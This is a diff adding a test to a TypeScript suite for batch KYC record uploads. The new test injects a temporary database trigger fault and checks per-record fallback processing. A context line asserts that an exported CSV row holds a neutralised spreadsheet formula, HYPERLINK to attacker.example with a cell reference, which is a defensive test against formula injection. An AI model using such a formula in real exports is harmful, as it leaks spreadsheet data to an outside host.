@@ -198,6 +198,38 @@ describe('requirement batches', () => {
     assert.ok(rows.at(-1)!.startsWith(`19,,"'=HYPERLINK(""https://attacker.example/?""&B2)",`), rows.at(-1));
   });
 
+  it("a step's records are written together; when one cannot be, the others are handled at once, one by one, and it when it can", async () => {
+    const people = [await entity(), await entity(), await entity()];
+    for (const p of people) assert.equal((await passport(p.id)).status, 201);
+    const stuck = people[1]!.id;
+    // a fault the middle person's decision meets (as a database error would), until it is taken away
+    await stack.db.query(
+      `CREATE FUNCTION rb_fault() RETURNS trigger LANGUAGE plpgsql AS $$
+       BEGIN IF NEW.entity_id = '${stuck}' THEN RAISE EXCEPTION 'injected fault'; END IF; RETURN NEW; END $$`,
+    );
+    await stack.db.query('CREATE TRIGGER rb_fault BEFORE INSERT ON kyc_accounts FOR EACH ROW EXECUTE FUNCTION rb_fault()');
+    try {
+      const res = await upload(lines(people.map((p) => ({ entityId: p.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical() }))));
+      assert.equal(res.status, 201, res.text);
+      // the step failed as a whole (nothing of it committed), then each record on its own: the other two are decided now
+      await decisionsOf(people[0]!.id);
+      await decisionsOf(people[2]!.id);
+      const meanwhile = await status(res.body.batchId);
+      assert.equal(meanwhile.body.status, 'in_progress');
+      assert.equal(meanwhile.body.processedRecords, 2);
+      await stack.db.query('DROP TRIGGER rb_fault ON kyc_accounts');
+      const done = await finished(res.body.batchId);
+      assert.equal(done.status, 'completed');
+      assert.deepEqual(done.summary, { successfulRecords: 3, decided: 3, waitingForDocuments: 0, errors: [] });
+      await decisionsOf(stuck);
+      await new Promise((r) => setTimeout(r, 500));
+      for (const p of people) assert.equal((await decisionsOf(p.id)).length, 1, 'each person decided once');
+    } finally {
+      await stack.db.query('DROP TRIGGER IF EXISTS rb_fault ON kyc_accounts');
+      await stack.db.query('DROP FUNCTION IF EXISTS rb_fault()');
+    }
+  });
+
   it('names a member of a business entity with memberId: the person', async () => {
     const owner = await entity();
     assert.equal((await passport(owner.id)).status, 201);
